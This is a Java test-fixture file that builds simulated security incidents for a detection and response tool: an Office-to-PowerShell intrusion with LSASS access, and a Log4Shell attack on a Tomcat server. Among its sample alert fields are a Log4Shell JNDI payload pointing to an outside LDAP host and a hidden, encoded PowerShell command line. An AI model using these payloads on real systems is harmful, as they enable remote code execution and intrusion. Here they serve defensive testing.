package dev.vigil.incident;

import dev.vigil.incident.Incident.Classification;
import dev.vigil.incident.Incident.Status;
import dev.vigil.ingest.SharedData;
import dev.vigil.intel.attack.AttackBundle;
import dev.vigil.intel.attack.AttackKnowledge;
import dev.vigil.intel.ioc.Indicator;
import dev.vigil.intel.ioc.IndicatorType;
import dev.vigil.intel.ioc.Provenance;
import dev.vigil.model.Alert;
import dev.vigil.model.Alert.Entity;
import dev.vigil.model.EventId;
import dev.vigil.model.TenantId;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;
import java.util.function.Predicate;

/**
 * Fixed incidents, built in code with fixed ids and times, for the analysis and response specifications: each says
 * in its comment what happened, so that a reader of a golden file can check every statement against it.
 */
final class IncidentFixtures {
    static final TenantId ACME = TenantId.of("acme");
    /** 2024-05-01T08:00:00Z */
    static final Instant BASE = Instant.parse("2024-05-01T08:00:00Z");
    static final Instant CREATED = BASE.plus(Duration.ofHours(2));

    private static AttackKnowledge attack;

    private IncidentFixtures() {}

    /** MITRE's real enterprise bundle from the shared data; the test is skipped where it is absent. */
    static synchronized AttackKnowledge attack() {
        if (attack == null) {
            attack = AttackBundle.read(SharedData.require("mitre-attack", "https://github.com/mitre/cti")
                    .resolve("enterprise-attack.json"));
        }
        return attack;
    }

    static UUID alertId(int n) {
        return UUID.fromString(String.format("%08x-0000-4000-8000-00000000a1e7", 0x1a000000 + n));
    }

    static EventId eventId(int n) {
        UUID uuid = UUID.fromString(String.format("%08x-0000-7000-8000-0000000e7e47", 0x0e000000 + n));
        return new EventId(uuid.getMostSignificantBits(), uuid.getLeastSignificantBits());
    }

    static long micros(int minutesAfterBase) {
        return ChronoUnit.MICROS.between(Instant.EPOCH, BASE.plus(Duration.ofMinutes(minutesAfterBase)));
    }

    static Alert alert(int n, String source, String ruleId, String title, String level, int minute,
            List<String> techniques, Map<String, String> matched, List<Entity> entities, String table) {
        return new Alert(alertId(n), ACME, source, ruleId, title, level, "", micros(minute), techniques, matched,
                entities, List.of(eventId(n)), table);
    }

    static Map<String, String> fields(String... namesAndValues) {
        Map<String, String> fields = new LinkedHashMap<>();
        for (int i = 0; i < namesAndValues.length; i += 2) {
            fields.put(namesAndValues[i], namesAndValues[i + 1]);
        }
        return fields;
    }

    static Entity entity(String kind, String value) {
        return new Entity(kind, value);
    }

    static Incident incident(long number, List<Alert> alerts) {
        return new Incident(number, IncidentNaming.title(alerts), Status.NEW, IncidentNaming.severity(alerts),
                Classification.UNDETERMINED, "", "", List.of(), Instant.EPOCH.plus(alerts.getFirst().timeMicros(),
                        ChronoUnit.MICROS), Instant.EPOCH.plus(alerts.getLast().timeMicros(), ChronoUnit.MICROS),
                CREATED, null, null, "", alerts.size());
    }

    /** The first alert opens the incident; each later one joins on the first entity it shares with an earlier one. */
    static List<PlacedAlert> placed(List<Alert> alerts) {
        List<PlacedAlert> placed = new ArrayList<>();
        for (Alert alert : alerts) {
            JoinReason reason = JoinReason.first();
            search:
            for (PlacedAlert earlier : placed.reversed()) {
                for (EntityKey key : Correlator.keys(alert)) {
                    if (Correlator.keys(earlier.alert()).contains(key)) {
                        reason = new JoinReason(JoinReason.Kind.SHARED_ENTITY, key, earlier.alert().id(),
                                alert.timeMicros() - earlier.alert().timeMicros(), "");
                        break search;
                    }
                }
            }
            placed.add(new PlacedAlert(alert, reason));
        }
        return placed;
    }

    /**
     * Incident 1, an intrusion on 2024-05-01, all by CORP\j.doe:
     *
     * <ul>
     *   <li>08:00 the firewall sees ws-12 (10.0.0.12) receive from 203.0.113.7, which the partner feed lists
     *       (confidence 80, ATT&CK T1566.001): an IOC alert, high;
     *   <li>08:05 WINWORD.EXE on ws-12 starts PowerShell (process {@code …-0001}): high, T1059.001 and T1204.002;
     *   <li>08:20 a child of that PowerShell (process {@code …-0002}) reads lsass memory on ws-12: critical,
     *       T1003.001;
     *   <li>08:45 a service is created remotely on srv-db01 from 10.0.0.12 by j.doe: high, T1021.002 and T1543.003;
     *   <li>09:30 ws-12 talks to 10.0.0.53, the DNS server every host uses (common), low, T1071.004.
     * </ul>
     *
     * The events show j.doe logging on with special privileges (4672); incidents 4 (two alerts) and 9 (one) also
     * name ws-12.
     */
    static IncidentFacts intrusion(Optional<AttackKnowledge> attack) {
        List<Alert> alerts = List.of(
                alert(1, "ioc", "ioc:ipv4:203.0.113.7", "Known-bad ipv4 203.0.113.7 (partner-feed)", "high", 0,
                        List.of("T1566.001"), fields("src_ip", "203.0.113.7", "indicator", "ipv4:203.0.113.7",
                                "feeds", "partner-feed", "confidence", "80"),
                        List.of(entity("host", "ws-12.corp.local"), entity("user", "CORP\\j.doe"),
                                entity("src_ip", "203.0.113.7"), entity("dst_ip", "10.0.0.12")),
                        "CommonSecurityLog"),
                alert(2, "sigma", "6c9e5e4a-0001-4c1f-9c1e-000000000002", "Office Application Spawned PowerShell",
                        "high", 5, List.of("T1059.001", "T1204.002"),
                        fields("ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
                        List.of(entity("process_guid", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9-0001}"),
                                entity("host", "WS-12"), entity("user", "CORP\\j.doe"),
                                entity("process", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
                                entity("parent_process",
                                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")),
                        "SysmonEvent"),
                alert(3, "sigma", "6c9e5e4a-0001-4c1f-9c1e-000000000003", "LSASS Memory Read By PowerShell",
                        "critical", 20, List.of("T1003.001"),
                        fields("TargetImage", "C:\\Windows\\System32\\lsass.exe", "GrantedAccess", "0x1010"),
                        List.of(entity("process_guid", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9-0002}"),
                                entity("process_guid", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9-0001}"),
                                entity("host", "ws-12"), entity("user", "j.doe@corp.example")),
                        "SysmonEvent"),
                alert(4, "sigma", "6c9e5e4a-0001-4c1f-9c1e-000000000004", "Remote Service Created", "high", 45,
                        List.of("T1021.002", "T1543.003"), fields("ServiceName", "updsvc", "EventID", "7045"),
                        List.of(entity("host", "srv-db01.corp.local"), entity("user", "CORP\\j.doe"),
                                entity("src_ip", "10.0.0.12")),
                        "SecurityEvent"),
                alert(5, "sigma", "6c9e5e4a-0001-4c1f-9c1e-000000000005", "DNS Query For Long Subdomain", "low",
                        90, List.of("T1071.004"), fields("QueryName", "aGVsbG8.tunnel.example"),
                        List.of(entity("host", "ws-12"), entity("dst_ip", "10.0.0.53"),
                                entity("domain", "tunnel.example")),
                        "DnsEvents"));
        List<EventSummary> events = List.of(
                new EventSummary(eventId(2), "SysmonEvent", micros(5), Map.of("host", "ws-12", "user", "CORP\\j.doe",
                        "command_line", "powershell.exe -nop -w hidden -enc SQBFAFgA", "event_code", "1")),
                new EventSummary(eventId(3), "SysmonEvent", micros(20), Map.of("host", "ws-12", "event_code", "10",
                        "process", "powershell.exe")),
                new EventSummary(eventId(10), "SecurityEvent", micros(-30), Map.of("host", "ws-12", "user",
                        "CORP\\j.doe", "event_code", "4672", "action", "special privileges assigned")));
        Indicator badAddress = Indicator.of(IndicatorType.IPV4, "203.0.113.7", new Provenance(List.of("partner-feed"),
                80, null, null, null, null, List.of("c2"), List.of(), List.of(), List.of("T1566.001"), List.of()));
        Set<EntityKey> common = Set.of(new EntityKey(EntityKey.Kind.IP, "10.0.0.53"));
        Predicate<EntityKey> isCommon = common::contains;
        return new IncidentFacts(incident(1, alerts), placed(alerts), events, Map.of("j.doe", eventId(10)),
                Map.of(4L, 2, 9L, 1), List.of(badAddress), attack, isCommon);
    }

    /**
     * Incident 2, a web server exploited on 2024-05-01: 10:00 a Log4Shell attempt (CVE-2021-44228) from the public
     * address 198.51.100.23 reaches web-01 (medium, T1190); 10:02 tomcat9.exe on web-01 starts cmd.exe as
     * NT SERVICE\Tomcat9 (high, T1059.003). No indicator, no privileged account, no related incident.
     */
    static IncidentFacts webExploit(Optional<AttackKnowledge> attack) {
        List<Alert> alerts = List.of(
                alert(21, "sigma", "6c9e5e4a-0002-4c1f-9c1e-000000000021", "Log4Shell Exploitation Attempt"
                        + " CVE-2021-44228", "medium", 120, List.of("T1190"),
                        fields("url", "/?x=${jndi:ldap://198.51.100.23:1389/a}"),
                        List.of(entity("host", "web-01"), entity("src_ip", "198.51.100.23"),
                                entity("dst_ip", "10.0.1.10")),
                        "W3CIISLog"),
                alert(22, "sigma", "6c9e5e4a-0002-4c1f-9c1e-000000000022", "Tomcat Spawning A Shell", "high", 122,
                        List.of("T1059.003"), fields("Image", "C:\\Windows\\System32\\cmd.exe", "CommandLine",
                                "cmd.exe /c whoami"),
                        List.of(entity("host", "web-01"), entity("user", "NT SERVICE\\Tomcat9"),
                                entity("parent_process",
                                        "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe"),
                                entity("process", "C:\\Windows\\System32\\cmd.exe")),
                        "SysmonEvent"));
        return new IncidentFacts(incident(2, alerts), placed(alerts), List.of(), Map.of(), Map.of(), List.of(),
                attack, key -> false);
    }

    /** Incident 3: one low alert, a scheduled task created by s.king on ws-40 at 2024-05-01 11:00 (T1053.005). */
    static IncidentFacts lowNoise(Optional<AttackKnowledge> attack) {
        List<Alert> alerts = List.of(alert(31, "sigma", "6c9e5e4a-0003-4c1f-9c1e-000000000031",
                "Scheduled Task Created", "low", 180, List.of("T1053.005"), fields("TaskName", "\\Backup"),
                List.of(entity("host", "ws-40"), entity("user", "CORP\\s.king")), "SecurityEvent"));
        return new IncidentFacts(incident(3, alerts), placed(alerts), List.of(), Map.of(), Map.of(), List.of(),
                attack, key -> false);
    }
}
